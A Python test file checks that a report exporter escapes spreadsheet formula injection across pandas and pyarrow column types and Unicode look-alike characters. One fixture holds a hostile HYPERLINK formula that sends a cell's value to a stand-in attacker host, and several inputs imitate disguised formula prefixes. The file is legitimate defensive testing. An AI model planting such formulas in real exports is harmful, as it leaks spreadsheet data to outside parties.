"""The formula policy on every kind of column a frame may hold, and on look-alike characters."""

from __future__ import annotations

import csv

import pandas as pd
import pyarrow as pa
import pytest

from mediaframe.reports import risky, safe_cell, to_csv
from mediaframe.reports.cells import safe_frame

BAD = '=HYPERLINK("http://evil.example/?"&A2,"click")'


def _arrow_dictionary(values: list[str | None], value_type: pa.DataType) -> pd.Series:
    encoded = pa.array(values, value_type).dictionary_encode()
    return pd.Series(pd.array(encoded, dtype=pd.ArrowDtype(encoded.type)))


@pytest.mark.parametrize(
    "column",
    [
        pytest.param(_arrow_dictionary([BAD, None], pa.string()), id="arrow-dictionary"),
        pytest.param(_arrow_dictionary([BAD, None], pa.large_string()), id="arrow-dict-large"),
        pytest.param(
            pd.Series(pd.arrays.SparseArray([BAD, None], dtype=pd.SparseDtype(object, None))),
            id="sparse-object",
        ),
        pytest.param(pd.Series([BAD, None], dtype=pd.ArrowDtype(pa.string())), id="arrow-string"),
        pytest.param(pd.Series([BAD, None], dtype="category"), id="categorical"),
    ],
)
def test_text_of_any_dtype_that_is_not_numbers_dates_or_booleans_is_neutralised(column):
    assert safe_frame(pd.DataFrame({"c": column}))["c"].iloc[0] == "'" + BAD


def test_a_frame_read_back_with_pyarrow_dtypes_is_written_with_every_formula_escaped(tmp_path):
    frame = pd.DataFrame({"title": pd.Categorical([BAD, "ok"]), "caption": [BAD, "x"]})
    frame.to_parquet(tmp_path / "x.parquet")
    back = pd.read_parquet(tmp_path / "x.parquet", dtype_backend="pyarrow")
    to_csv(back, tmp_path / "back.csv")
    with open(tmp_path / "back.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[1] == ["'" + BAD, "'" + BAD]
    assert rows[2] == ["ok", "x"]


def test_numbers_dates_booleans_and_durations_keep_their_dtypes():
    frame = pd.DataFrame(
        {
            "n": pd.Series([-1, 2], dtype=pd.ArrowDtype(pa.int64())),
            "b": pd.Series([True, False], dtype=pd.ArrowDtype(pa.bool_())),
            "t": pd.Series(pd.to_datetime(["2024-01-01", "2024-01-02"], utc=True)),
            "d": pd.Series(pd.to_timedelta([-1, 1], unit="h")),
        }
    )
    assert safe_frame(frame).dtypes.tolist() == frame.dtypes.tolist()


@pytest.mark.parametrize(
    "text",
    [
        "\uff1d1+1",  # full-width =
        "\uff0b1+cmd",  # full-width +
        "\uff0d1+cmd",  # full-width -
        "\uff20SUM(A1)",  # full-width @
        "\u22121+1",  # minus sign
        "\ufeff=1+1",  # byte-order mark
        "\u200b=1+1",  # zero-width space
        "\u202e=1+1",  # right-to-left override
        "\u2066=1+1",  # left-to-right isolate
        " \u200b \ufe62cmd",  # small plus, behind spaces and a zero-width space
    ],
)
def test_formula_characters_in_disguise_are_neutralised(text):
    assert risky(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["\u22123", "\uff0d3", "caf\u00e9", "\u00e9=1", "\u200bsunset"])
def test_numbers_and_text_in_other_scripts_are_kept(text):
    assert not risky(text)
